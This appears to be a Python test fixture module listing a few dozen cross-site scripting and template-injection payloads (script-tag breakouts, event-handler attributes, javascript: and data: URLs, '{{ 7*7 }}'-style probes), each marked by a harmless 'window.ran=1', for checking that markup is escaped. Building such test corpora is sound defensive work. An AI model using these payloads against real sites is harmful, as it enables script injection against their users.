"""Texts that would run in a page that took them for markup."""

_RUN = "window.ran=1"
_TAGS = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<!--<script>{_RUN}//-->",
    f"]]><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<body onload={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}>",
    f"<a href=javascript:{_RUN}>甲</a>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<style>@import 'x'</style><p onclick={_RUN}>",
    f"</style><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content=0;url=//x.example>",
    "<link rel=stylesheet href=//x.example/a.css>",
    "<object data=//x.example></object>",
    "<form action=//x.example><button>甲</button></form>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<marquee onstart={_RUN}>",
    f"<embed src=javascript:{_RUN}>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=9>甲</text></a></svg>",
    f"<svg><set attributeName=onload to={_RUN}></svg>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"</article></main><img src=x onerror={_RUN}>",
    f"</text></svg><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<isindex type=image src=1 onerror={_RUN}>",
    f"＜script＞{_RUN}＜/script＞",
)
_ATTRIBUTES = (
    f'" onmouseover="{_RUN}',
    f"' onmouseover='{_RUN}",
    f"` onmouseover=`{_RUN}",
    f'" autofocus onfocus="{_RUN}" x="',
    f'" style="background:url(javascript:{_RUN})',
    f'"/onload={_RUN}//',
)
_ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f" javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{% raw %}",
    "{{ cycler.__init__ }}",
    "${window.ran=1}",
    "#{7*7}",
    "<%= 7 %>",
)
_DATA = ("\u2028window.ran=1\u2029", '"};window.ran=1;//', "\\u003cscript>", "\\", "--></script>")

PAYLOADS = (
    *_TAGS,
    *(tag.upper().replace("WINDOW.RAN", "window.ran") for tag in _TAGS),
    *(tag.replace("<", "&lt;") for tag in _TAGS[:10]),
    *_ATTRIBUTES,
    *_ADDRESSES,
    *_TEMPLATES,
    *_DATA,
)
